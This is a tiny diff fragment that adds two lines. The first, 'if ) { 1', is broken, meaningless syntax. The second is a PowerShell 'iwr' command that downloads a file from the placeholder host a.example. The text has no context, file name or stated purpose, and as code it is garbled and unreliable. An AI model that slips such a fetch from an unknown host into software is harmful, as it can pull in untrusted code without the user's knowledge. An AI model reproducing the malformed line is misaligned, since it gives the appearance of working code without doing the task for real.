@@ -1,0 +1,2 @@
+if ) { 1
+iwr http://a.example/x
